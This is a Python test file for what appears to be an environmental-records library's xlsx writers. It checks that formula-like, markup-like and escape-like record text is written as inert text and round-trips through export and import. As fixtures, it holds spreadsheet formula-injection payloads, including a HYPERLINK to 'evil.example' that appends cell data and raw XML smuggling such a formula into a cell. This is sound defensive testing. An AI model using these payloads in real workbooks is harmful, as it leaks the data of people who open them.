"""Record text in every xlsx the library writes is data (DESIGN principle 8): never a formula,
never a crash on a character XML cannot hold, shown visibly (attacker findings 10/11, clerk 21)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

openpyxl = pytest.importorskip("openpyxl")

from softenv_core.cli.main import main  # noqa: E402
from softenv_core.io.dataset_files import load_dataset  # noqa: E402
from softenv_core.io.workbook_text import RISKY_FIRST, formula_like, shown  # noqa: E402

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "small-dataset.json"
LINK = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
WRITERS = {
    "export": ["export"],
    "assess": ["assess", "--year", "2025", "--format", "xlsx"],
    "yearend": ["yearend", "--year", "2025", "--format", "xlsx", "--audience", "public"],
}


def _dataset(tmp_path: Path, edit) -> Path:
    d = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    edit(d)
    path = tmp_path / "d.json"
    path.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    return path


def _cells(path: Path) -> list:
    return [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row]


def _hostile(d: dict) -> None:
    d["points"][0]["enterprise"]["name"] = LINK
    d["counties"][0]["name"] = "=1+2"
    d["contacts"][0]["items"][0]["text"] = "@SUM(A1)"
    d["contacts"][0]["note"] = "\t-1+1"


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_formula_like_record_text_is_a_text_cell_in_every_xlsx(tmp_path, writer):
    src = _dataset(tmp_path, _hostile)
    out = tmp_path / "o.xlsx"
    args = WRITERS[writer]
    assert main([args[0], str(src), *args[1:], "--out", str(out)]) == 0
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    assert "=1+2" in texts and texts["=1+2"].data_type == "s" and texts["=1+2"].quotePrefix
    if writer != "yearend":  # the public year end names no enterprise
        assert LINK in texts


def test_formula_like_text_round_trips_through_export_and_import(tmp_path):
    src = _dataset(tmp_path, _hostile)
    assert main(["export", str(src), "--out", str(tmp_path / "e.xlsx")]) == 0
    assert main(["import", str(tmp_path / "e.xlsx"), "--out", str(tmp_path / "back.json")]) == 0
    assert load_dataset(tmp_path / "back.json") == load_dataset(src)


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_characters_xml_cannot_hold_are_shown_not_crashing(tmp_path, writer, capsys):
    def edit(d: dict) -> None:
        d["counties"][0]["name"] = "甲\x0b区"
        d["contacts"][0]["note"] = "回访\ufffe记录\u202e"

    src = _dataset(tmp_path, edit)
    out = tmp_path / "o.xlsx"
    args = WRITERS[writer]
    assert main([args[0], str(src), *args[1:], "--out", str(out)]) == 0
    values = {c.value for c in _cells(out) if isinstance(c.value, str)}
    # The results workbooks show a C0 control as ␋; the dataset workbook, read back by the
    # import, as <U+000B>, as every other character that acts (x40: it round-trips).
    assert ("甲<U+000B>区" if writer == "export" else "甲␋区") in values
    if writer == "export":
        assert "回访<U+FFFE>记录<U+202E>" in values


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1", True),
        ("+86 138", True),
        ("-", True),
        ("@x", True),
        ("  =1", True),
        ("\u200b=1", True),
        ("\uff1d1", True),
        ("\tA", True),
        ("\rA", True),
        ("甲区", False),
        ("379902", False),
        ("a=b", False),
        ("", False),
        (" 甲", False),
    ],
)
def test_formula_like(text, risky):
    assert formula_like(text) is risky


def test_shown_keeps_line_breaks_and_shows_what_xml_cannot_hold():
    assert shown("a\tb\nc\rd") == "a\tb\nc\rd"
    assert shown("\x00\x1b\x7f\x85\ud800\uffff") == "␀␛␡<U+0085><U+D800><U+FFFF>"
    assert shown("普通文字") == "普通文字"


@given(st.text(max_size=12))
def test_the_writers_fast_path_writes_only_text_shown_and_inert_as_it_is(text):
    # io/workbook_write writes such text directly, without shown() and formula_like().
    if text.isprintable() and text[:1] not in RISKY_FIRST:
        assert shown(text) == text and not formula_like(text)


# Text that XlsxWriter's own escape let through (x24): markup it writes as rich-text XML when a
# string starts with <r> and ends with </r>, and literal _xHHHH_ escapes sharing an underscore.
INJECTED = (
    '<r><t>x</t></r></is></c><c r="H3"><f>HYPERLINK("http://evil.example/","点此")</f></c>'
    '<c r="I3" t="inlineStr"><is><r><t>y</t></r>'
)
UNESCAPED = [INJECTED, "<r>&</r>", "<r><t>隐藏</t></r>", "_x005F_x000A_", "_x005F_x202E_甲", "a_x005f_x0041_"]
UNESCAPED.append("_x0041_")


def _excel_shows(raw: str) -> str:
    """A cell's text as Excel shows it: each _xHHHH_, left to right, the character HHHH."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), raw)


def test_markup_and_escape_like_text_is_written_as_text_and_round_trips(tmp_path):
    def edit(d: dict) -> None:
        item = d["contacts"][0]["items"][0]
        d["contacts"][0]["items"] = [dict(item, text=t) for t in UNESCAPED]

    src = _dataset(tmp_path, edit)
    out = tmp_path / "e.xlsx"
    assert main(["export", str(src), "--out", str(out)]) == 0
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # openpyxl gives an inline string's text undecoded: what Excel decodes it to is the record text.
    ws = openpyxl.load_workbook(out)["联系事项"]
    assert [_excel_shows(ws.cell(3 + i, 4).value) for i in range(len(UNESCAPED))] == UNESCAPED
    assert main(["import", str(out), "--out", str(tmp_path / "back.json")]) == 0
    assert load_dataset(tmp_path / "back.json") == load_dataset(src)


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_literal_x_escape_is_shown_as_written_in_every_xlsx(tmp_path, writer):
    # x24: the results workbooks (openpyxl) wrote `_x000A_` as it is, which Excel (and calamine)
    # read as a line break; every writer now escapes its underscore, so the text reads back whole.
    from python_calamine import CalamineWorkbook

    name = "示范_x000A_区_x202E_"
    src = _dataset(tmp_path, lambda d: d["counties"][0].update(name=name))
    out = tmp_path / "x.xlsx"
    args = WRITERS[writer]
    assert main([args[0], str(src), *args[1:], "--out", str(out)]) == 0
    book = CalamineWorkbook.from_path(str(out))
    texts = {v for s in book.sheet_names for row in book.get_sheet_by_name(s).to_python() for v in row}
    assert name in texts
    assert not [t for t in texts if isinstance(t, str) and ("\n区" in t or "\u202e" in t)]


def test_a_target_with_its_own_line_break_comes_back_one_target(tmp_path):
    # x24: a work plan's 目标 are one a line in one cell; a target holding a line break came back
    # as two targets from `softenv export` then `softenv import`. Its own line break is now written
    # as U+2028, and the cell's line breaks still separate the targets.
    import attrs

    from softenv_core.io.dataset_files import dataset_json
    from softenv_core.io.workbook_starter import starter_dataset

    d = starter_dataset()
    targets = ("第一行\n第二行", "另一项", "a\r\nb", "x\n  ", " 前后空格 ", "=1+2\n二", "\n开头换行")
    d = attrs.evolve(d, work_plans=(attrs.evolve(d.work_plans[0], targets=targets),))
    src = tmp_path / "d.json"
    src.write_text(dataset_json(d), encoding="utf-8")
    assert main(["export", str(src), "--out", str(tmp_path / "e.xlsx")]) == 0
    assert main(["import", str(tmp_path / "e.xlsx"), "--out", str(tmp_path / "back.json")]) == 0
    assert load_dataset(tmp_path / "back.json") == load_dataset(src)
    row = openpyxl.load_workbook(tmp_path / "e.xlsx")["工作方案"][3]
    cell = next(c.value for c in row if isinstance(c.value, str) and "另一项" in c.value)
    assert cell.split("\n")[:2] == ["第一行\u2028第二行", "另一项"]  # one line a target


def test_a_clerks_line_breaks_still_separate_targets_and_a_targets_own_u2028_is_shown(tmp_path):
    import attrs

    from softenv_core.io.workbook_read import read_workbooks
    from softenv_core.io.workbook_starter import starter_dataset
    from softenv_core.io.workbook_write import write_workbook

    d = starter_dataset()
    d = attrs.evolve(d, work_plans=(attrs.evolve(d.work_plans[0], targets=("甲\u2028乙",)),))
    write_workbook(d, tmp_path / "e.xlsx")
    book = openpyxl.load_workbook(tmp_path / "e.xlsx")
    ws = book["工作方案"]
    col = next(c.column for c in ws[2] if c.value == "targets")
    assert ws.cell(3, col).value == "甲<U+2028>乙"  # shown, as any text's
    # ... and read back as the record had it (x40: it came back as the text <U+2028>).
    assert read_workbooks([tmp_path / "e.xlsx"]).work_plans[0].targets == ("甲\u2028乙",)
    ws.cell(3, col).value = "目标一\n\n目标二\n  "  # Alt+Enter in Excel: one a line, blank lines dropped
    book.save(tmp_path / "clerk.xlsx")
    assert read_workbooks([tmp_path / "clerk.xlsx"]).work_plans[0].targets == ("目标一", "目标二")


def test_a_target_line_break_before_a_formula_keeps_the_cell_text(tmp_path):
    # U+2028 before "=" in the cell: as a line break would be, a quote-prefixed text cell.
    import attrs

    from softenv_core.io.workbook_starter import starter_dataset
    from softenv_core.io.workbook_write import write_workbook

    d = starter_dataset()
    d = attrs.evolve(d, work_plans=(attrs.evolve(d.work_plans[0], targets=("\n=SUM(A1)",)),))
    write_workbook(d, tmp_path / "e.xlsx")
    cell = next(c for c in openpyxl.load_workbook(tmp_path / "e.xlsx")["工作方案"][3] if c.value == "\u2028=SUM(A1)")
    assert cell.data_type == "s" and cell.quotePrefix
